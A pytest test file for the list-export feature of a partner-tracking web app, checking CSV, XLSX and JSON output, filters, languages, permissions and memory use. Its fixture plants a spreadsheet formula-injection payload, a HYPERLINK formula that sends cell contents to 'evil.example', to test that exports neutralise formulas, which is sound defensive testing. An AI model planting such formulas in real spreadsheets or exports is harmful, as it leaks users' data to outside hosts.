"""Any list as a file: whose language, which rows, which columns, who may."""

import csv
import io
import json
import tracemalloc
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import insert
from sqlmodel import Session

from tests.world import (
    EMC,
    MARAT,
    SCIENCE_WEEK,
    SEMEY_ENGINEERING,
    VETERINARY,
    aigerim,
    boris,
    build,
    dana,
)
from tracker import clock, db, i18n
from tracker.access import User
from tracker.domain import (
    agreements,
    drafts,
    events,
    follow_ups,
    interactions,
    news,
    partners,
    people,
    units,
)
from tracker.domain.addresses import LISTS, Asked
from tracker.domain.agreements import promises
from tracker.domain.exports import people as exports_of_people
from tracker.domain.models import (
    AgreementDraft,
    AgreementPromiseDraft,
    Direction,
    EventDraft,
    FollowUpDraft,
    FollowUpKind,
    FollowUpStatus,
    InteractionDraft,
    Kind,
    NewsItemDraft,
    ParticipationRole,
    PartnerDraft,
    Person,
    PersonDraft,
    PositionDraft,
    UnitDraft,
)
from tracker.errors import NotAllowed, NotFound
from tracker.export import lists, xlsx
from tracker.export.cells import restored
from tracker.export.columns import COLUMNS
from tracker.export.lists import Format
from tracker.i18n import catalogue, speaking

BASE = "https://tracker.uni.example/"
HOSTILE = '=HYPERLINK("http://evil.example/"&A1)'
_ASKED = "=Ветеринария бойынша қайта даярлау"
_QUIET = catalogue()["quiet.only"]["en"]


@pytest.fixture
def full(session: Session) -> Session:
    """One record more of every kind, with every field filled and a formula for a name."""
    nova = partners.create(
        session,
        drafts.checked(
            PartnerDraft,
            {
                "name_kk": HOSTILE,
                "name_ru": "ТОО «Нова»; филиал",
                "name_en": "Nova Labs",
                "aliases": ["Нова", "NL"],
                "legal_form": "ТОО",
                "bin": "990340000123",
                "sector": "museum",
                "tier": "key",
                "stage": "agreed",
                "city": "Семей",
                "region": "Абай",
                "website": "nova.example",
                "parent_id": EMC,
                "owner_id": aigerim.id,
                "notes": "бірінші\nекінші",
            },
        ),
        by=aigerim,
        tag_names=["Өнеркәсіп", "AI"],
    )
    assert nova.id is not None
    person = {"name": "+Әсел Нұр", "phone": "+7 701 123 45 67", "email": "asel@nova.example"}
    begun = date(2025, 1, 2)
    posts = [
        PositionDraft(partner_id=EMC),
        PositionDraft(partner_id=nova.id, title="Директор", since=begun),
    ]
    draft = drafts.checked(PersonDraft, {**person, "other_names": ["Assel"], "notes": "@note"})
    asel = people.create(session, draft, by=aigerim, positions=posts)
    typed: dict[str, Any] = {"name_kk": "=Жиын", "kind": "forum", "starts_on": date(2025, 5, 6)}
    typed |= {"starts_at": "09:30", "parent_id": SCIENCE_WEEK, "place": "Семей"}
    event = events.create(session, drafts.checked(EventDraft, typed), by=aigerim, tag_names=["AI"])
    assert event.id is not None
    for role in (ParticipationRole.GUEST, ParticipationRole.SPEAKER):
        events.add_participants(session, event.id, [nova.id], role, by=aigerim)
    article = {"title": "=Жаңалық", "published_on": date(2025, 5, 7), "language": "kk"}
    article |= {"text": "Мәтін\n=1+1", "address": "news.example/1", "source": "Абай ақпарат"}
    news.create(
        session,
        drafts.checked(NewsItemDraft, article),
        by=aigerim,
        tag_names=["AI"],
        partner_ids=[nova.id],
        person_ids=[MARAT],
    )
    talk = {"summary": "-Келісім жайлы", "happened_on": date(2025, 5, 8), "happened_at": "14:05"}
    talk |= {"kind": "call", "place": "Zoom", "event_id": event.id, "unit_id": VETERINARY}
    interactions.log(
        session,
        drafts.checked(InteractionDraft, {**talk, "outcome": "Келісті"}),
        partner_ids=[nova.id, EMC],
        person_ids=[asel.id or 0],
        colleague_ids=[dana.id],
        by=aigerim,
    )
    signed = {"title": "=Меморандум", "number": "007", "signed_on": date(2025, 5, 9)}
    signed |= {"valid_until": date(2099, 1, 1), "unit_id": VETERINARY, "promised": "Тағылымдама"}
    memo = agreements.create(
        session, drafts.checked(AgreementDraft, signed), partner_ids=[nova.id], by=aigerim
    )
    places = {"subject": "Places", "amount": 10, "measure": "students", "every_year": True}
    until = {"subject": "Tutors", "promised_by": "they", "promised_until": date(2025, 6, 1)}
    said = [drafts.checked(AgreementPromiseDraft, each) for each in (places, until)]
    promises.add(session, memo.id or 0, said, by=aigerim)
    part = {"name_kk": "=Зертхана", "parent_id": VETERINARY, "head": "Б. Ким", "kind": "laboratory"}
    units.create(session, drafts.checked(UnitDraft, part), by=aigerim)
    return session


@pytest.fixture
def late(session: Session) -> int:
    """A follow-up that is three days late, with a quote that looks like a formula."""
    typed = {
        "kind": FollowUpKind.RETRAINING,
        "subject": "veterinary medicine",
        "partner_id": EMC,
        "unit_id": VETERINARY,
        "owner_id": aigerim.id,
        "event_id": SCIENCE_WEEK,
        "due_on": clock.today() - timedelta(days=3),
        "quote": _ASKED,
    }
    made = follow_ups.create(session, drafts.checked(FollowUpDraft, typed), by=aigerim)
    assert made.id is not None
    return made.id


def usual(kind: Kind, /, **wanted: Any) -> Asked:
    """The usual view of a list, narrowed."""
    asked = LISTS[kind].usual
    return asked._replace(wanted=asked.wanted._replace(**wanted))


EVERYTHING = usual(Kind.FOLLOW_UP, shown=follow_ups.Shown.ALL)


def file(
    session: Session, kind: Kind, form: Format, asked: Asked | None = None, *, by: User = dana
) -> bytes:
    written = io.BytesIO()
    asked = asked or LISTS[kind].usual
    lists.write(session, written, kind, asked, by=by, form=form, base=BASE)
    return written.getvalue()


def sheet(raw: bytes) -> list[list[object]]:
    page = openpyxl.load_workbook(io.BytesIO(raw)).active
    assert page is not None
    return [[cell.value for cell in row] for row in page.rows]


def table(raw: bytes) -> list[dict[str, str]]:
    text = io.StringIO(raw.decode("utf-8-sig"), newline="")
    return list(csv.DictReader(text, delimiter=";"))


def ids(session: Session, kind: Kind, asked: Asked | None = None) -> list[int]:
    return [row["id"] for row in json.loads(file(session, kind, Format.JSON, asked))]


def test_the_same_rows_stand_in_every_kind_of_file(full: Session, late: int) -> None:
    for kind in LISTS:
        expected = ids(full, kind)
        assert len(expected) >= 1
        assert [int(row["No."]) for row in table(file(full, kind, Format.CSV))] == expected
        raw = file(full, kind, Format.XLSX)
        book = CalamineWorkbook.from_filelike(io.BytesIO(raw)).get_sheet_by_index(0).to_python()
        head = next(place for place, line in enumerate(book) if line[0] == "No.")
        assert [line[0] for line in book[head + 1 :]] == expected
        assert [line[0] for line in sheet(raw)[head + 1 :]] == expected


def test_no_cell_of_a_workbook_is_a_formula(full: Session, late: int) -> None:
    for kind in LISTS:
        raw = file(full, kind, Format.XLSX, by=replace(dana, language="kk"))
        page = openpyxl.load_workbook(io.BytesIO(raw)).active
        assert page is not None
        assert {cell.data_type for row in page.rows for cell in row} <= {"s", "n", "d", "inlineStr"}
        for cell in (cell for row in page.rows for cell in row if cell.hyperlink):
            assert cell.hyperlink.target.startswith(f"{BASE}{kind}?id=")


def test_a_formula_that_was_typed_is_text_in_csv(full: Session, late: int) -> None:
    for kind in LISTS:
        typed = {HOSTILE, "+Әсел Нұр", "=Жиын", "=Жаңалық", "-Келісім жайлы", "=Меморандум"}
        typed |= {"=Зертхана", _ASKED}
        cells = [cell for row in table(file(full, kind, Format.CSV)) for cell in row.values()]
        assert not [cell for cell in cells if cell[:1] in "=+-@" and cell]
        assert typed & {restored(cell) for cell in cells}


def test_a_partner_comes_with_all_that_an_import_needs(full: Session) -> None:
    (row,) = table(file(full, Kind.PARTNER, Format.CSV, usual(Kind.PARTNER, text="нова")))
    assert {title: restored(cell) for title, cell in row.items()} == {
        "No.": "3",
        "Name in Kazakh": HOSTILE,
        "Name in Russian": "ТОО «Нова»; филиал",
        "Name in English": "Nova Labs",
        "Other names": "Нова; NL",
        "Legal form": "ТОО",
        "BIN": "990340000123",
        "Sector": "Museum",
        "Tier": "Key",
        "Stage": "Agreed",
        "City": "Семей",
        "Region": "Абай",
        "Website": "https://nova.example",
        "Part of": "EMC",
        "Owner": aigerim.name,
        "Tags": "AI; Өнеркәсіп",
        "Notes": "бірінші\nекінші",
        "Open follow-ups": "0",
        "Last contact": "2025-05-08",
        "Recorded": clock.today().isoformat(),
        "Link": f"{BASE}partner?id=3",
        **dict.fromkeys(
            ("Engagement", "In three months", "Kinds of work alive, of 7", "Two-way"), ""
        ),
    }


def test_a_person_comes_with_every_position_held_now(full: Session) -> None:
    (row,) = table(file(full, Kind.PERSON, Format.CSV, usual(Kind.PERSON, text="assel")))
    assert (row["Partner"], row["Position"]) == ("Nova Labs", "Директор")
    assert row["In the position from"] == "2025-01-02"
    assert row["All positions"] == "Директор, Nova Labs; EMC"
    assert (row["Phone"], row["Other spellings"]) == ("'+7 701 123 45 67", "Assel")
    (marat,) = table(file(full, Kind.PERSON, Format.CSV, usual(Kind.PERSON, text="марат")))
    assert (marat["Partner"], marat["Position"]) == ("EMC", "Director")


def test_dates_are_dates_and_hours_are_text(full: Session) -> None:
    rows = table(file(full, Kind.EVENT, Format.CSV))
    assert (rows[0]["First day"], rows[0]["Starts at"]) == ("2025-05-06", "09:30")
    assert (rows[0]["Participants"], rows[0]["Tags"]) == ("Nova Labs", "AI")
    lines = sheet(file(full, Kind.AGREEMENT, Format.XLSX))
    head = next(line for line in lines if line[0] == "No.")
    signed = lines[-1][head.index("Signed on")]
    assert getattr(signed, "date")() == date(2025, 5, 9)  # noqa: B009 - any kind of cell


def test_who_took_part_is_named(full: Session) -> None:
    (row,) = table(file(full, Kind.INTERACTION, Format.CSV))
    assert (row["Partners"], row["People"]) == ("EMC; Nova Labs", "'+Әсел Нұр")
    assert (row["From our side"], row["Logged by"]) == (dana.name, aigerim.name)
    assert row["Event"] == "'=Жиын"
    (item,) = table(file(full, Kind.NEWS_ITEM, Format.CSV))
    assert item["Mentions"] == "Nova Labs; Марат Әлиев"
    (agreement,) = table(file(full, Kind.AGREEMENT, Format.CSV))
    assert (agreement["Partners"], agreement["Number"]) == ("Nova Labs", "007")


def test_what_was_promised_is_told_with_what_came_of_it(full: Session) -> None:
    (agreement,) = table(file(full, Kind.AGREEMENT, Format.CSV))
    assert agreement["Alive or on paper"] == "On paper"
    assert agreement["Promises"] == (
        "Both promised: Places · 10 students · every year (Nothing seen); "
        "They promised: Tutors · until 01/06/2025 (Nothing seen)"
    )
    (told,) = json.loads(file(full, Kind.AGREEMENT, Format.JSON))
    assert told["verdict"] == "on_paper"
    assert told["promises"][1] == {
        "subject": "Tutors",
        "promised_by": "they",
        "kind": "other",
        "amount": None,
        "measure": None,
        "every_year": False,
        "promised_until": "2025-06-01",
        "state": "nothing",
    }


def test_a_filter_is_obeyed(full: Session, late: int) -> None:
    for kind, wanted, count in (
        (Kind.PARTNER, {"sector": "museum"}, 1),
        (Kind.PARTNER, {"tag": "ai"}, 1),
        (Kind.PARTNER, {"owner_id": aigerim.id, "text": "нова"}, 1),
        (Kind.PERSON, {"partner_id": SEMEY_ENGINEERING}, 0),
        (Kind.EVENT, {"since": date(2025, 1, 1)}, 1),
        (Kind.NEWS_ITEM, {"language": "kk"}, 1),
        (Kind.INTERACTION, {"kind": "letter"}, 0),
        (Kind.FOLLOW_UP, {"overdue": True}, 1),
        (Kind.AGREEMENT, {"state": agreements.AgreementState.ENDED}, 0),
        (Kind.UNIT, {"kind": "laboratory"}, 1),
    ):
        asked = usual(kind, **wanted)
        assert len(ids(full, kind, asked)) == count, kind


def test_the_order_is_obeyed(full: Session, late: int) -> None:
    for kind in LISTS:
        asked = LISTS[kind].usual
        turned = asked._replace(descending=not asked.descending)
        assert ids(full, kind, turned) == ids(full, kind)[::-1]
        for sort in type(asked.sort):
            assert sorted(ids(full, kind, asked._replace(sort=sort))) == sorted(ids(full, kind))


def test_what_is_in_the_trash_stays_there(full: Session) -> None:
    partner = partners.get(full, EMC, by=dana)
    partner.deleted_at = clock.now()
    full.flush()
    assert EMC not in ids(full, Kind.PARTNER)
    (marat,) = table(file(full, Kind.PERSON, Format.CSV, usual(Kind.PERSON, text="марат")))
    assert marat["Partner"] == ""


def test_a_workbook_is_in_the_readers_language(session: Session, late: int) -> None:
    kazakh = replace(dana, language="kk")
    lines = sheet(file(session, Kind.FOLLOW_UP, Format.XLSX, EVERYTHING, by=kazakh))
    head = next(line for line in lines if line[0] == "№")
    assert head[1:3] == ["Мерзімі", "Кешігуі"]
    assert lines[-1][2] == "3 күн кешікті"
    assert lines[-1][8] == "Ветеринария кафедрасы"
    assert lines[-1][head.index("Іс-шара")] == "Ғылым апталығы"


def test_a_workbook_says_what_the_list_was_narrowed_to(session: Session, late: int) -> None:
    asked = usual(
        Kind.FOLLOW_UP,
        text="vet",
        overdue=True,
        owner_id=aigerim.id,
        partner_id=EMC,
        unit_id=VETERINARY,
        event_id=SCIENCE_WEEK,
        kind=FollowUpKind.RETRAINING,
        direction=Direction.WE_OWE,
        due_to=clock.today(),
    )
    said = [line[0] for line in sheet(file(session, Kind.FOLLOW_UP, Format.XLSX, asked))]
    for note in (
        "Shown: Overdue",
        "Search: vet",
        "Owner: Айгерім Сейітова",
        "Partner: EMC",
        "Unit: Department of Veterinary",
        "Event: Science Week",
        "Kind: Retraining",
    ):
        assert note in said
    assert any(str(each).startswith("Made: ") and "Дана Ахметова" in str(each) for each in said)
    assert said[-1] == late


def test_a_list_without_rows_still_says_why(session: Session) -> None:
    for kind, wanted, note in (
        (Kind.FOLLOW_UP, {"shown": follow_ups.Shown.CLOSED}, "Shown: Closed"),
        (Kind.FOLLOW_UP, {"status": FollowUpStatus.DONE}, "Shown: Done"),
        (Kind.FOLLOW_UP, {"owner_id": 404}, "Owner: 404"),
        (Kind.PARTNER, {"tag": "nothing"}, "Tag: nothing"),
        (Kind.PARTNER, {"tag": "nothing", "quiet": True}, f"Shown: {_QUIET}"),
        (Kind.INTERACTION, {"colleague_id": boris.id}, f"Colleague: {boris.name}"),
        (Kind.NEWS_ITEM, {"until": date(1999, 1, 2)}, "To: 02/01/1999"),
    ):
        lines = sheet(file(session, kind, Format.XLSX, usual(kind, **wanted)))
        assert note in [line[0] for line in lines]
        assert lines[-1][0] == "No."


def test_json_speaks_in_codes(full: Session, late: int) -> None:
    raw = file(full, Kind.FOLLOW_UP, Format.JSON, EVERYTHING, by=replace(dana, language="kk"))
    (row,) = json.loads(raw)
    assert (row["id"], row["kind"], row["status"]) == (late, "retraining", "open")
    assert row["quote"] == _ASKED
    assert (row["is_overdue"], row["origin_kind"], row["origin_id"]) == (True, "event", 1)
    assert row["link"] == f"{BASE}follow_up?id={late}"
    person = json.loads(file(full, Kind.PERSON, Format.JSON, usual(Kind.PERSON, text="assel")))[0]
    assert person["posts"][0] == {
        "partner": "Nova Labs",
        "title": "Директор",
        "since": "2025-01-02",
        "website": "https://nova.example",
    }


@pytest.mark.parametrize("reader", [boris, aigerim])
def test_only_a_manager_takes_lists_away(session: Session, reader: User) -> None:
    for kind in LISTS:
        for form in lists.formats_of(kind):
            with pytest.raises(NotAllowed):
                file(session, kind, form, by=reader)
    with pytest.raises(NotAllowed):
        exports_of_people.one(session, MARAT, by=reader)


@pytest.mark.parametrize("form", [Format.VCF, Format.PDF, Format.DOCX])
def test_some_lists_have_formats_of_their_own(session: Session, form: Format) -> None:
    with pytest.raises(NotFound):
        file(session, Kind.PARTNER, form)


@pytest.mark.parametrize("language", i18n.LANGUAGES)
@pytest.mark.parametrize("kind", list(LISTS))
def test_every_column_has_a_name_of_its_own(kind: Kind, language: str) -> None:
    titles = [catalogue()[field.word][language] for field in COLUMNS[kind]]
    assert len(titles) == len(set(titles))


@pytest.mark.parametrize("language", i18n.LANGUAGES)
def test_a_file_is_called_after_the_list_and_the_day(language: str) -> None:
    with speaking(language):
        name = lists.name(Kind.PARTNER, Format.XLSX)
    assert name == f"{catalogue()['nav.partners'][language]} {clock.today().isoformat()}.xlsx"


def test_an_address_asks_for_the_list_on_the_screen() -> None:
    asked = usual(Kind.PARTNER, text="ә&b=c")._replace(sort=partners.Sort.STAGE)
    address = lists.address(Kind.PARTNER, Format.CSV, asked)
    assert address == "/download/partners.csv?q=%D3%99%26b%3Dc&sort=stage"
    assert lists.address(Kind.FOLLOW_UP, Format.XLSX, LISTS[Kind.FOLLOW_UP].usual) == (
        "/download/follow-ups.xlsx"
    )


@pytest.fixture
def crowd(sqlite_database: str) -> None:
    """Nine thousand people called many, and a thousand called few."""
    build()
    names = ["few" if number < 1_000 else "many" for number in range(10_000)]
    rows = [
        {"name": f"{name} {number}", "search_key": name, "phone": "+7 701 123 45 67"}
        | {"other_names": ["Assel", "Әсел"], "sort_key": f"{number:05}", "notes": "ескертпе " * 9}
        for number, name in enumerate(names)
    ]
    moment = {"created_at": clock.now(), "updated_at": clock.now(), "revision": 1}
    with db.transaction() as session:
        session.connection().execute(insert(Person), [{**row, **moment} for row in rows])


@pytest.mark.parametrize("form", lists.formats_of(Kind.PERSON))
def test_nine_times_the_rows_need_no_more_memory(
    crowd: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, form: Format
) -> None:
    monkeypatch.setattr(xlsx, "_LINKS", 500)  # these alone are kept to the end

    def peak(text: str) -> int:
        with (tmp_path / text).open("wb") as written, db.reading() as session:
            asked = usual(Kind.PERSON, text=text)
            tracemalloc.start()
            lists.write(session, written, Kind.PERSON, asked, by=dana, form=form, base=BASE)
            most = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
        return most

    peak("few")  # what is made once stays
    few = peak("few")
    assert peak("many") < 1.5 * few
